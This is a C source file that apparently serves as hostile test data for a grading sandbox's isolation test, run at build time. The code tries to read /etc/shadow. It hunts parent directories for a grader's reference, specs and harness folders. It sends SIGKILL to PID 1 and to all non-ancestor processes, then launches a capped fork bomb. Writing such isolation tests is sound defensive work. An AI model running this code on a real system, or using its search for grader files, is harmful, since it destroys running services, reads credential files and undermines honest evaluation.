/* Hostile test data (sockgrade isolation test), run by the Makefile at build
 * time: a spy (walks up from the cwd looking for reference/, reports/,
 * specs/, submissions/, harness/ beside each folder; reads
 * ../(../)*reference/hello/hello_server.c and /etc/shadow), a killer
 * (kill(1, SIGKILL), then SIGKILL to every process it sees but its own
 * ancestors, so that the build can go on) and a fork bomb (children that
 * live 2 s; safety cap 1000 forks). Its last line sums it all up. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static int is_ancestor(pid_t pid)
{
    for (pid_t p = getpid(); p > 1;) {
        char path[64];
        int ppid = 0;
        if (p == pid)
            return 1;
        snprintf(path, sizeof path, "/proc/%d/stat", (int)p);
        FILE *f = fopen(path, "r");
        if (!f || fscanf(f, "%*d %*s %*c %d", &ppid) != 1)
            ppid = 0;
        if (f)
            fclose(f);
        p = ppid;
    }
    return pid == 1;
}

int main(void)
{
    static const char *const wanted[] = { "reference", "reports", "specs", "submissions", "harness" };
    char dir[4096], path[4400], file[64] = "reference/hello/hello_server.c";
    int found = 0, nread = 0, killed = 0, forks = 0;
    char shadow[64] = "readable", forkerr[64] = "none";

    for (int up = 1; up <= 8; up++) {                   /* ../reference, ../../reference, ... */
        memmove(file + 3, file, strlen(file) + 1);
        memcpy(file, "../", 3);
        nread += access(file, R_OK) == 0;
    }
    if (open("/etc/shadow", O_RDONLY) >= 0)
        nread++;
    else
        snprintf(shadow, sizeof shadow, "%s", strerror(errno));
    if (!getcwd(dir, sizeof dir))
        strcpy(dir, "/");
    for (char *slash; (slash = strrchr(dir, '/'));) {     /* each folder up the tree */
        *slash = '\0';
        for (size_t i = 0; i < sizeof wanted / sizeof *wanted; i++) {
            snprintf(path, sizeof path, "%s/%s", dir, wanted[i]);
            if (access(path, F_OK) == 0) {
                found++;
                printf("evil: FOUND %s\n", path);
            }
        }
    }
    printf("evil: kill(1, SIGKILL): %s\n", kill(1, SIGKILL) ? strerror(errno) : "SENT");
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
        pid_t pid = atoi(e->d_name);
        if (pid > 1 && !is_ancestor(pid) && kill(pid, SIGKILL) == 0) {
            killed++;
            printf("evil: KILLED %d\n", (int)pid);
        }
    }
    while (forks < 1000) {
        pid_t p = fork();
        if (p == 0) {
            sleep(2);
            _exit(0);
        }
        if (p < 0) {
            snprintf(forkerr, sizeof forkerr, "%s", strerror(errno));
            break;
        }
        forks++;
    }
    while (wait(NULL) > 0)
        ;
    printf("evil: done: found=%d read=%d killed=%d forks=%d fork_error=%s shadow=%s\n", found,
           nread, killed, forks, forkerr, shadow);
    return 0;
}
